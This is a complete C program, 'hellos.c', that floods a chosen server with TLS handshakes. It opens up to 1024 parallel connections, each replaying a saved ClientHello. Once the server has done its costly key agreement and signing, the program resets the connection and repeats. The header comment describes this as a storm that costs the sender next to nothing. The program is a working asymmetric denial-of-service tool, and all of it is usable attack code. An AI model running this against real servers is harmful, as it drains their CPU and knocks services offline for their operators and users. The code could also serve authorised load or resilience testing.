/* hellos.c: a storm of TLS handshakes that costs its sender next to nothing: connections at once, each says the same hello out of a file, waits for
 * the first bytes of the server's flight (for which the server has agreed on a key and signed), resets the connection and comes again.
 *
 *     hellos ADDRESS PORT FILE CONNECTIONS SECONDS     until then, or SIGTERM; prints how many were answered, and how many refused or closed */
#include <arpa/inet.h>
#include <errno.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { HELLO_MOST = 1 << 14, CONNECTIONS_MOST = 1024, WAIT_MS = 100, RECORD_HANDSHAKE = 22 };

static uint8_t hello[HELLO_MOST];
static size_t hello_len;
static struct sockaddr_in to = {.sin_family = AF_INET};
static unsigned long answered, refused;
static volatile sig_atomic_t over;

static void on_end(int number)
{
    over = number;
}

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static bool load(const char *path)
{
    FILE *f = fopen(path, "r");
    hello_len = f ? fread(hello, 1, sizeof hello, f) : 0;
    if (f)
        fclose(f);
    return hello_len > 5 && hello[0] == RECORD_HANDSHAKE;
}

/* A connection on its way; its end is a reset, so that no port is left in TIME_WAIT. -1: none can be made. */
static int come(int poll)
{
    const struct linger at_once = {1, 0};
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    struct epoll_event e = {.events = EPOLLOUT, .data.fd = fd};
    if (fd < 0)
        return -1;
    setsockopt(fd, SOL_SOCKET, SO_LINGER, &at_once, sizeof at_once);
    if ((connect(fd, (struct sockaddr *)&to, sizeof to) < 0 && errno != EINPROGRESS) || epoll_ctl(poll, EPOLL_CTL_ADD, fd, &e) < 0) {
        close(fd);
        return -1;
    }
    return fd;
}

/* Says the hello when it may, and looks at the answer. False: it is over. */
static bool go_on(int poll, const struct epoll_event *e)
{
    uint8_t got[4096];
    const int fd = e->data.fd;
    if (e->events & EPOLLOUT) {
        struct epoll_event reads = {.events = EPOLLIN, .data.fd = fd};
        if (send(fd, hello, hello_len, MSG_NOSIGNAL) == (ssize_t)hello_len && epoll_ctl(poll, EPOLL_CTL_MOD, fd, &reads) == 0)
            return true;
        refused++;
        return false;
    }
    ssize_t n = recv(fd, got, sizeof got, 0);
    if (n < 0 && errno == EAGAIN)
        return true;
    *(n > 0 && got[0] == RECORD_HANDSHAKE ? &answered : &refused) += 1;
    return false;
}

static int storm(unsigned connections, double seconds)
{
    struct epoll_event events[64];
    int poll = epoll_create1(0);
    const double begin = now(), end = begin + seconds;
    unsigned open = 0;
    while (!over && now() < end) {
        while (open < connections && come(poll) >= 0)
            open++;
        int n = epoll_wait(poll, events, 64, WAIT_MS);
        for (int i = 0; i < n; i++)
            if (!go_on(poll, &events[i])) {
                close(events[i].data.fd);
                open--;
            }
    }
    printf("%lu hellos answered, %.0f a second, %lu refused\n", answered, (double)answered / (now() - begin), refused);
    return answered ? 0 : 1;
}

int main(int argc, char **argv)
{
    if (argc != 6 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1 || !load(argv[3])) {
        fputs("usage: hellos ADDRESS PORT FILE CONNECTIONS SECONDS (FILE: a ClientHello in its record)\n", stderr);
        return 2;
    }
    signal(SIGTERM, on_end);
    to.sin_port = htons((uint16_t)atoi(argv[2]));
    int connections = atoi(argv[4]);
    return connections > 0 && connections <= CONNECTIONS_MOST ? storm((unsigned)connections, atof(argv[5])) : 2;
}
